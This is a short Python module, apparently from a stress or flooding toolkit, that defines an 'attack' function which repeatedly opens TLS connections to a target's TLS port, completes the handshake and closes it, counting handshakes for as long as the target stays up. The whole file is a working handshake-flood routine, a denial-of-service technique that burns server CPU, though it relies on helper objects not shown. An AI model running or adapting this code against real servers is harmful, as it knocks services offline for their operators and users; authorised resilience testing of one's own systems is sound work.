# SPDX-License-Identifier: Apache-2.0
"""Handshakes that end, and nothing after them."""
from lib.flood import tls_context


def attack(target):
    done, context = 0, tls_context("h2")
    while target.is_on():
        try:
            context.wrap_socket(target.reach(target.service.tls_port)).close()
            done += 1
        except OSError:
            pass
    assert done > 0
    return f"{done} handshakes"
